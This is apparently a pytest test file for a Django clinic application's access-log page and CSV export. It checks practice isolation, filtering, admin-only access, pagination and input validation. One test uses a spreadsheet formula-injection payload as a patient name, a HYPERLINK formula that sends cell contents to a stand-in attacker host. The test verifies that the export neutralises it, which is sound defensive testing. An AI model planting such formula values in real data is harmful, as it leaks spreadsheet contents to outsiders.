"""The practice admin reads, filters and exports the practice's own access log."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from clinic.access_chain import append_entry
from clinic.choices import AccessAction, AccessOutcome, Role
from clinic.models import AccessLogEntry
from tests.factories import PatientFactory, UserFactory
from tests.query_plans import assert_index_serves

pytestmark = pytest.mark.django_db


def entry(user, patient, *, action=AccessAction.READ, part="patient", days_ago=0):
    return append_entry(
        user=user,
        user_role=user.role,
        practice=patient.practice,
        patient=patient,
        patient_label=str(patient),
        action=action,
        part=part,
        occurred_at=timezone.now() - datetime.timedelta(days=days_ago),
    )


@pytest.fixture
def log(therapist, other_therapist):
    own = PatientFactory(practice=therapist.practice, first_name="Sanne", last_name="Noord")
    foreign = PatientFactory(practice=other_therapist.practice, first_name="Kees", last_name="Zuid")
    return {
        "read": entry(therapist, own),
        "old": entry(therapist, own, action=AccessAction.UPDATE, part="intake", days_ago=40),
        "foreign": entry(other_therapist, foreign),
    }


def shown(client, **params):
    return set(client.get(reverse("clinic:access_log"), params).context["object_list"])


def test_admin_sees_only_own_practice(client, practice_admin, log):
    client.force_login(practice_admin)
    assert shown(client) == {log["read"], log["old"]}


def test_other_admin_sees_none_of_it(client, other_admin, log):
    client.force_login(other_admin)
    assert shown(client) == {log["foreign"]}


def test_filters_patient_user_period_action(client, practice_admin, therapist, log):
    client.force_login(practice_admin)
    assert shown(client, patient="sanne") == {log["read"], log["old"]}
    assert shown(client, patient="kees") == set()
    assert shown(client, user=therapist.pk) == {log["read"], log["old"]}
    assert shown(client, action="update") == {log["old"]}
    since = (timezone.localdate() - datetime.timedelta(days=7)).isoformat()
    assert shown(client, start=since) == {log["read"]}
    until = (timezone.localdate() - datetime.timedelta(days=30)).isoformat()
    assert shown(client, end=until) == {log["old"]}


def test_entries_show_local_time_to_the_second_and_translated_names(client, practice_admin, therapist):
    moment = datetime.datetime(2026, 3, 1, 8, 5, 9, 123456, tzinfo=datetime.UTC)
    patient = PatientFactory(practice=therapist.practice)
    append_entry(
        user=therapist,
        user_role=therapist.role,
        practice=patient.practice,
        patient=patient,
        patient_label=str(patient),
        action=AccessAction.UPDATE,
        part="intake",
        outcome=AccessOutcome.FAILED,
        occurred_at=moment,
    )
    client.force_login(practice_admin)

    page = client.get(reverse("clinic:access_log")).content.decode()

    assert '<time datetime="2026-03-01T09:05:09.123456+01:00">01-03-2026 09:05:09</time>' in page
    with translation.override("nl"):
        assert str(AccessAction.UPDATE.label) != "Update"
        assert f"<td>{AccessAction.UPDATE.label}</td>" in page
        assert f'<div class="small text-body-secondary">{Role.THERAPIST.label}</div>' in page
        assert f'<span class="badge text-bg-warning">{AccessOutcome.FAILED.label}</span>' in page


def test_a_stored_value_that_is_no_choice_is_shown_as_stored(client, practice_admin, therapist):
    entry(therapist, PatientFactory(practice=therapist.practice), action="legacy")
    client.force_login(practice_admin)
    assert "<td>legacy</td>" in client.get(reverse("clinic:access_log")).content.decode()


def test_a_page_of_the_log_is_read_off_an_index_without_sorting_the_log(client, practice_admin, log):
    client.force_login(practice_admin)
    with CaptureQueriesContext(connection) as captured:
        client.get(reverse("clinic:access_log"))
    entries = 'FROM "clinic_accesslogentry"'
    page = next(query["sql"] for query in captured if entries in query["sql"] and "LIMIT" in query["sql"])
    assert_index_serves(page)


def test_the_user_filter_offers_the_practice_staff_and_no_patients(
    client, practice, practice_admin, therapist, patient_user, other_therapist
):
    root = UserFactory(practice=practice, is_superuser=True, role="", email="root@noord.test")
    client.force_login(practice_admin)

    offered = client.get(reverse("clinic:access_log")).context["filter"].form.fields["user"].queryset

    assert set(offered) == {practice_admin, therapist, root}


def test_period_end_before_start_is_refused(client, practice_admin, log):
    client.force_login(practice_admin)
    response = client.get(reverse("clinic:access_log"), {"start": "2026-02-01", "end": "2026-01-01"})
    assert response.context["filter"].form.errors["end"]


def test_csv_export_has_only_own_filtered_entries_and_is_logged(client, practice_admin, log):
    client.force_login(practice_admin)
    response = client.get(reverse("clinic:access_log_export"), {"action": "read"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    patients = [row[3] for row in rows[1:]]
    assert "Sanne Noord" in patients
    assert "Kees Zuid" not in patients
    assert AccessLogEntry.objects.filter(user=practice_admin, action=AccessAction.EXPORT).exists()


def csv_rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, practice_admin, therapist):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    patient = PatientFactory(practice=therapist.practice, first_name=formula, last_name="@SUM(1+1)")
    entry(therapist, patient)
    client.force_login(practice_admin)

    rows = csv_rows(client.get(reverse("clinic:access_log_export"), {"action": "read"}))

    cells = [cell for row in rows for cell in row]
    assert f"'{formula} @SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_speaks_the_downloaders_language_in_the_practices_local_time(client, practice_admin, therapist, log):
    client.force_login(practice_admin)
    with translation.override("nl"):
        rows = csv_rows(client.get(reverse("clinic:access_log_export"), {"action": "update"}))

    header, row = rows[0], rows[1]
    assert header[:7] == ["wanneer", "gebruiker", "rol", "patiënt", "handeling", "deel van het dossier", "uitkomst"]
    assert row[2] == "Therapeut" and row[4] == "Wijzigen" and row[5] == "Intake" and row[6] == "Gelukt"
    local = timezone.localtime(log["old"].occurred_at)
    assert row[0] == local.strftime("%Y-%m-%d %H:%M:%S") + local.strftime("%z")[:3] + ":" + local.strftime("%z")[3:]


def test_an_export_with_a_filter_it_cannot_take_goes_back_to_the_page_that_says_why(client, practice_admin, log):
    client.force_login(practice_admin)
    response = client.get(reverse("clinic:access_log_export"), {"end": "9999-12-31", "action": "read"})
    assert response.status_code == 302
    page = client.get(response["Location"])
    assert page.context["filter"].form.errors["end"]
    assert not AccessLogEntry.objects.filter(user=practice_admin, action=AccessAction.EXPORT).exists()


@pytest.mark.parametrize("role", ["therapist", "patient_user"])
@pytest.mark.parametrize("url_name", ["clinic:access_log", "clinic:access_log_export"])
def test_access_log_is_for_practice_admins_only(client, request, role, url_name):
    client.force_login(request.getfixturevalue(role))
    assert client.get(reverse(url_name)).status_code == 403


def test_admin_site_cannot_change_or_delete_entries(admin_client, log):
    url = reverse("admin:clinic_accesslogentry_change", args=[log["read"].pk])
    assert admin_client.post(url, {"part": "x"}).status_code == 403
    delete = reverse("admin:clinic_accesslogentry_delete", args=[log["read"].pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    assert AccessLogEntry.objects.filter(pk=log["read"].pk, part="patient").exists()


def test_walkthrough_is_in_noord_log_and_not_in_zuid(client, therapist, practice_admin, other_admin):
    from tests.factories import CareEpisodeFactory

    episode = CareEpisodeFactory(patient__practice=therapist.practice, patient__responsible_therapist=therapist)
    client.force_login(therapist)
    client.get(episode.patient.get_absolute_url())
    client.get(episode.get_absolute_url())
    client.force_login(practice_admin)
    parts = {e.part for e in client.get(reverse("clinic:access_log")).context["object_list"] if e.patient_id}
    assert {"patient", "episode"} <= parts
    client.force_login(other_admin)
    assert not [e for e in client.get(reverse("clinic:access_log")).context["object_list"] if e.patient_id]


def test_the_log_pages_newest_first_without_counting_the_whole_log(client, practice_admin, therapist):
    patient = PatientFactory(practice=therapist.practice)
    entries = [entry(therapist, patient, days_ago=days) for days in range(60, 0, -1)]
    client.force_login(practice_admin)
    url = reverse("clinic:access_log")

    with CaptureQueriesContext(connection) as captured:
        first = client.get(url)
    second = client.get(url, {"page": 2})

    assert not any("COUNT(" in query["sql"] for query in captured.captured_queries)
    assert list(first.context["object_list"])[0] == entries[-1]
    assert len(first.context["object_list"]) == 50
    assert "Pagina 1" in first.text and "?page=2" in first.text
    # page 2 holds the rest: the ten oldest of ours and the admin's own looks at the log just now
    assert set(entries[:10]) <= set(second.context["object_list"])
    assert "?page=1" in second.text and "?page=3" not in second.text
    for page in (9, "last", "0", "-3", "99999999999999999999", "x" * 5000):
        shown = client.get(url, {"page": page})
        assert shown.context["page_obj"].number == 1, page
        assert "Die pagina bestaat niet" in shown.text


@pytest.mark.parametrize(
    "params",
    [{"start": "0001-01-01"}, {"end": "9999-12-31"}, {"patient": "x" * 5000}, {"user": "99999999999999999999"}],
)
def test_a_filter_value_the_log_cannot_take_is_explained_the_rest_still_filters(client, practice_admin, log, params):
    client.force_login(practice_admin)

    response = client.get(reverse("clinic:access_log"), {**params, "action": "update"})

    assert response.status_code == 200
    assert response.context["filter"].form.errors[next(iter(params))]
    assert set(response.context["object_list"]) == {log["old"]}
